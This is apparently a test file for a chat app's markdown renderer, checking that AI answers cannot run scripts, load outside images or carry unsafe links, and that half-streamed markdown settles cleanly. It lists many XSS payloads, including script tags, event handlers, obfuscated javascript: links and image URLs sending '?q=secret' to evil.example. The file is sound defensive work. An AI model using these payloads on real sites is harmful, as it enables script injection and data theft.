import './dom.ts';
import { cleanup, render } from '@testing-library/react';
import { expect, onTestFinished, test } from 'vitest';
import { ImageOrigin } from '../../web/src/markdown/image-origin.ts';
import { Markdown } from '../../web/src/markdown/markdown.tsx';
import { settleTail } from '../../web/src/markdown/settle-tail.ts';
import { splitBlocks } from '../../web/src/markdown/split-blocks.ts';

const ORIGIN = 'https://parlance.example.com';

/** What an answer becomes on a page of ORIGIN. */
function show(markdown: string, streaming = false): Element {
  onTestFinished(cleanup);
  const answer = <Markdown text={markdown} streaming={streaming} />;
  return render(<ImageOrigin value={ORIGIN}>{answer}</ImageOrigin>).container;
}

const all = (root: Element, selector: string): Element[] => [...root.querySelectorAll(selector)];

const hostile = [
  '<script>alert(1)</script>',
  'Before <script src="https://evil.example/x.js"></script> after',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>body { display: none }</style>',
  '<div style="position:fixed;inset:0" onclick="alert(1)">over all</div>',
  '<!-- a comment --><b>bold</b>',
  '<!--\n\n<script>alert(1)</script>\n\n-->',
  '<a href="javascript:alert(1)">press</a>',
  '<form action="https://evil.example"><input name=p><button>Go</button></form>',
  '[press](javascript:alert(1))',
  '[press](JaVaScRiPt:alert(1))',
  '[press](  javascript:alert(1))',
  '[press](java\tscript:alert(1))',
  '[press](java&#10;script:alert(1))',
  '[press](&#106;avascript:alert(1))',
  '[press](\u0001javascript:alert(1))',
  '[press](vbscript:msgbox(1))',
  '[press](data:text/html,<script>alert(1)</script>)',
  '[press](file:///etc/passwd)',
  '[press](blob:https://parlance.example.com/1)',
  '[press](//evil.example/x)',
  '[press](/api/auth/logout)',
  '[press](https://example.com/"onmouseover="alert(1))',
  '[press](https://example.com "title\\" onmouseover=\\"alert(1)")',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[outer [inner](javascript:alert(1))](javascript:alert(2))',
  '[![image](javascript:alert(1))](javascript:alert(2))',
  '[reference][1]\n\n[1]: javascript:alert(1)',
  '![reference][1]\n\n[1]: https://evil.example/p.png?q=secret',
  '![alt](https://evil.example/p.png?q=secret)',
  '![alt](//evil.example/p.png)',
  '![alt](https://parlance.example.com@evil.example/p.png)',
  '![alt](https://parlance.example.com.evil.example/p.png)',
  '![alt](/\\evil.example/p.png)',
  '![alt](data:image/svg+xml,<svg onload=alert(1)>)',
  '![alt](javascript:alert(1))',
  '![" onerror="alert(1)](https://evil.example/p.png)',
  '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
  '| <script>alert(1)</script> | [x](javascript:alert(1)) |\n| - | - |\n| ![x](https://evil.example) | <img src=x onerror=alert(1)> |',
  'A note[^1].\n\n[^1]: [press](javascript:alert(1)) <script>alert(1)</script>',
];

const tags = 'script, style, svg, iframe, object, embed, link, meta, base, form, audio, video';

test.for(hostile.flatMap((text) => [[text, false] as const, [text, true] as const]))(
  'G5: nothing in an answer acts or loads by itself: %j, streaming: %s',
  ([markdown, streaming]) => {
    const root = show(markdown, streaming);
    const form = 'input:not([type=checkbox]), textarea, select';
    expect(all(root, `${tags}, ${form}`).filter((element) => !element.closest('button'))).toEqual([]);
    const images = all(root, 'img').map((image) => new URL(image.getAttribute('src') ?? '').origin);
    expect(images.filter((origin) => origin !== ORIGIN)).toEqual([]);
    const attributes = all(root, '*').flatMap((element) => [...element.attributes].map(({ name }) => name));
    expect(attributes.filter((name) => name.startsWith('on') || name === 'style')).toEqual([]);
    for (const link of all(root, 'a')) {
      expect(link.getAttribute('href')).toMatch(/^(https?|mailto):/);
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
      expect(link.getAttribute('target')).toBe('_blank');
    }
  },
);

test('G5: HTML in an answer is shown as it was written', () => {
  expect(show('<b onclick="alert(1)">bold</b>').textContent).toBe('<b onclick="alert(1)">bold</b>');
});

test('G5: links lead to the web and to mail', () => {
  const root = show('[a](https://example.com/?q=1#2) [b](mailto:a@example.com) www.example.org');
  const hrefs = all(root, 'a').map((link) => link.getAttribute('href'));
  expect(hrefs).toEqual(['https://example.com/?q=1#2', 'mailto:a@example.com', 'http://www.example.org']);
});

test('G5: an image is shown when it is of the page itself; of another host, it is a link that names the host', () => {
  expect(show('![Chart](/charts/1.png)').querySelector('img')?.getAttribute('src')).toBe(
    `${ORIGIN}/charts/1.png`,
  );
  const link = show('![Chart](https://evil.example/p.png)').querySelector('a');
  expect(link?.textContent).toBe('Chart (image at evil.example)');
});

test('G5: Markdown as models write it: lists, tables, task lists, code with its language', () => {
  const root = show(
    '# Title\n\n- one\n\n  more\n- two\n\n1. [x] done\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```ts\nconst a = 1;\n```',
  );
  expect(all(root, 'h3').map(({ textContent }) => textContent)).toEqual(['Title']);
  expect(all(root, 'ul > li')).toHaveLength(2);
  expect(root.querySelector('input')?.getAttribute('aria-label')).toBe('Done');
  expect(all(root, 'td').map(({ textContent }) => textContent)).toEqual(['1', '2']);
  expect(root.querySelector('figcaption')?.textContent).toBe('ts');
  expect(root.querySelector('pre')?.textContent).toBe('const a = 1;');
});

test.for([
  ['Two paragraphs\n\nand a list:\n\n- a\n\n- b\n\n  in b\n\nThe end', 3],
  ['1. a\n\n2', 1],
  ['```\none\n\ntwo\n```\n\nafter', 2],
  ['- ```\n  one\n\n  two\n  ```\n\nafter', 2],
  ['~~~~\n```\n\n~~~\n\n~~~~\n\nafter', 2],
  ['[a][1]\n\nand\n\n[1]: https://example.com', 1],
] as const)(
  'G5: a growing answer is cut where nothing that follows can change it: %j',
  ([markdown, count]) => {
    const blocks = splitBlocks(markdown);
    expect(blocks).toHaveLength(count);
    expect(blocks.map(({ text }) => text).join('')).toBe(markdown);
  },
);

test.for([
  ['An **important', 'An **important**'],
  ['An **', 'An '],
  ['Call `run', 'Call `run`'],
  ['See [the docs](https://exa', 'See the docs'],
  ['See ![a chart](https://exa', 'See a chart'],
  ['| a | b', ''],
  ['Text\n\n| a | b |\n| - | ', 'Text\n\n'],
  ['| a | b |\n| - | - |\n| 1', '| a | b |\n| - | - |\n| 1'],
  ['```ts\nconst a = `x\n``', '```ts\nconst a = `x'],
  ['array[0] is **done**', 'array[0] is **done**'],
] as const)('G5: marks that are half written do not show: %j', ([written, shown]) => {
  expect(settleTail(written)).toBe(shown);
});
